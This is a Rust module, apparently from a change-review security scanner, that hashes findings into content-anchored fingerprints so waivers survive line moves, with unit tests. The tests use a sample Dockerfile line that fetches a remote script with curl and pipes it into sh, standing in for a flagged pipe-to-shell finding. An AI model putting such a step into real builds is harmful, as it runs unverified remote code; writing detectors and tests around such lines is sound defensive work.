//! Content fingerprints of findings, which waivers are tied to.
//!
//! A fingerprint hashes the finding id, the file and an anchor of changed content: the
//! trimmed text of the added or removed line the finding points at; else the finding's subject
//! (a symbol, a resource); else, for a finding about the file as a whole, every added and
//! removed line of that file. Line numbers are left out on purpose: an edit elsewhere in the
//! file keeps a line-anchored waiver, an edit to the line that fired ends it. Context lines,
//! blank lines and the other side's numbering never anchor one, so a waiver cannot attach to
//! content the change did not make.

use std::collections::HashMap;

use sha2::{Digest, Sha256};

use crate::diff::{ChangeSet, FileChange, LineKind};

use super::Contribution;

/// The change's files by path, each with its changed lines by number, built once per score.
pub(super) struct Files<'a>(HashMap<&'a str, Changed<'a>>);

/// One file's added lines by new number and removed lines by old number.
struct Changed<'a> {
    file: &'a FileChange,
    added: HashMap<u32, &'a str>,
    removed: HashMap<u32, &'a str>,
}

impl<'a> Files<'a> {
    /// Indexes the files of `change`.
    pub(super) fn of(change: &'a ChangeSet) -> Self {
        Self(
            change
                .files
                .iter()
                .map(|file| (file.path(), Changed::of(file)))
                .collect(),
        )
    }
}

impl<'a> Changed<'a> {
    fn of(file: &'a FileChange) -> Self {
        let mut changed = Self {
            file,
            added: HashMap::new(),
            removed: HashMap::new(),
        };
        for line in file.hunks.iter().flat_map(|hunk| &hunk.lines) {
            let text = line.content.as_str();
            match (line.kind, line.new_line, line.old_line) {
                (LineKind::Added, Some(number), _) => {
                    changed.added.insert(number, text);
                }
                (LineKind::Removed, _, Some(number)) => {
                    changed.removed.insert(number, text);
                }
                _ => {}
            }
        }
        changed
    }

    /// The non-blank changed line numbered `line` (added first, then removed).
    fn line(&self, line: u32) -> Option<&'a str> {
        [&self.added, &self.removed]
            .into_iter()
            .find_map(|lines| lines.get(&line))
            .map(|text| text.trim())
            .filter(|text| !text.is_empty())
    }
}

/// The fingerprint of `contribution` in the change, or `None` when it has no file, or nothing
/// to tie it to (a binary file or a mode change without a subject): such a finding cannot be
/// waived. A finding in a file the change does not touch (a caller left dangling) is tied to
/// its subject.
pub(super) fn of(files: &Files<'_>, contribution: &Contribution) -> Option<String> {
    let path = contribution.file.as_deref()?;
    let changed = files.0.get(path);
    let mut hasher = Sha256::new();
    for part in [contribution.signal.id(), path] {
        field(&mut hasher, part);
    }
    let line = contribution
        .line
        .zip(changed)
        .and_then(|(line, changed)| changed.line(line));
    if let Some(text) = line {
        field(&mut hasher, "line");
        field(&mut hasher, text);
    } else if let Some(subject) = contribution.subject.as_deref() {
        field(&mut hasher, "subject");
        field(&mut hasher, subject.trim());
    } else {
        // About the file as a whole: tied to all of the file's change.
        let changed = changed?;
        field(&mut hasher, "file");
        let mut any = false;
        for line in changed.file.hunks.iter().flat_map(|hunk| &hunk.lines) {
            let sign = match line.kind {
                LineKind::Added => "+",
                LineKind::Removed => "-",
                LineKind::Context => continue,
            };
            field(&mut hasher, sign);
            field(&mut hasher, &line.content);
            any = true;
        }
        if !any {
            return None;
        }
    }
    Some(crate::digest::fingerprint(hasher))
}

/// One NUL-terminated part, so no two different sequences of parts hash the same bytes.
fn field(hasher: &mut Sha256, part: &str) {
    hasher.update(part.as_bytes());
    hasher.update([0]);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diff::{FileStatus, Hunk, Line};
    use crate::signal::Signal;

    /// The fingerprint of `finding` in `change`.
    fn print(change: &ChangeSet, finding: &Contribution) -> Option<String> {
        of(&Files::of(change), finding)
    }

    /// A change to `path` adding `added` at new lines from `start`, after `context` lines.
    fn change(path: &str, start: u32, added: &[&str]) -> ChangeSet {
        let mut file = FileChange::new(FileStatus::Modified, Some(path.into()), Some(path.into()));
        let lines = added
            .iter()
            .zip(start..)
            .map(|(text, number)| Line {
                kind: LineKind::Added,
                old_line: None,
                new_line: Some(number),
                content: (*text).to_owned(),
            })
            .collect();
        file.hunks.push(Hunk {
            old_start: start,
            old_lines: 0,
            new_start: start,
            new_lines: u32::try_from(added.len()).unwrap(),
            lines,
        });
        ChangeSet {
            files: vec![file],
            ..ChangeSet::default()
        }
    }

    fn finding(line: Option<u32>, subject: Option<&str>) -> Contribution {
        Contribution {
            signal: Signal::PipeToShell,
            file: Some("Dockerfile".into()),
            line,
            subject: subject.map(str::to_owned),
            points: 1.0,
            message: String::new(),
            arithmetic: String::new(),
            fingerprint: None,
            waived_by: None,
            basis: crate::score::Basis::default(),
        }
    }

    const CURL: &str = "RUN curl -s https://x.invalid/i.sh | sh";

    /// The same line moved down the file keeps its fingerprint; indentation does not count.
    #[test]
    fn moving_a_line_keeps_the_fingerprint() {
        let here = print(&change("Dockerfile", 3, &[CURL]), &finding(Some(3), None)).unwrap();
        let moved = print(
            &change("Dockerfile", 40, &["# new", &format!("  {CURL}  ")]),
            &finding(Some(41), None),
        )
        .unwrap();
        assert_eq!(here, moved);
        assert!(
            here.starts_with("sha256:") && here.len() == 7 + 64,
            "{here}"
        );
    }

    /// A context line, a blank line or a number no changed line has never anchors a
    /// fingerprint: the finding falls back to the whole file's change.
    #[test]
    fn only_changed_content_anchors() {
        let set = change("Dockerfile", 3, &["", CURL]);
        let whole = print(&set, &finding(None, None)).unwrap();
        assert_eq!(
            print(&set, &finding(Some(3), None)).unwrap(),
            whole,
            "blank line"
        );
        assert_eq!(
            print(&set, &finding(Some(50), None)).unwrap(),
            whole,
            "no such line"
        );
        assert_ne!(print(&set, &finding(Some(4), None)).unwrap(), whole);
    }

    /// Editing the line that fired changes the fingerprint; so do another file or id.
    #[test]
    fn editing_the_line_changes_the_fingerprint() {
        let before = print(&change("Dockerfile", 3, &[CURL]), &finding(Some(3), None));
        let edited = print(
            &change("Dockerfile", 3, &[&CURL.replace("i.sh", "j.sh")]),
            &finding(Some(3), None),
        );
        assert_ne!(before, edited);
        let mut other_id = finding(Some(3), None);
        other_id.signal = Signal::SecretAdded;
        assert_ne!(before, print(&change("Dockerfile", 3, &[CURL]), &other_id));
        let mut other_file = finding(Some(3), None);
        other_file.file = Some("b/Dockerfile".into());
        assert_ne!(
            before,
            print(&change("b/Dockerfile", 3, &[CURL]), &other_file)
        );
    }

    /// Without a changed line the subject anchors the fingerprint; with neither, the file's
    /// whole change does.
    #[test]
    fn findings_without_a_line_use_the_subject() {
        let set = change("Dockerfile", 3, &[CURL]);
        let by_subject = print(&set, &finding(None, Some("build"))).unwrap();
        assert_eq!(
            by_subject,
            print(&set, &finding(Some(99), Some("build"))).unwrap()
        );
        assert_ne!(
            by_subject,
            print(&set, &finding(None, Some("deploy"))).unwrap()
        );
        // About the whole file: tied to all of its change, so any edit ends it.
        let whole = print(&set, &finding(None, None)).unwrap();
        assert_ne!(whole, by_subject);
        assert_ne!(
            whole,
            print(
                &change("Dockerfile", 3, &[CURL, "USER app"]),
                &finding(None, None)
            )
            .unwrap()
        );
        let mut no_file = finding(Some(3), None);
        no_file.file = None;
        assert_eq!(print(&set, &no_file), None);
    }
}
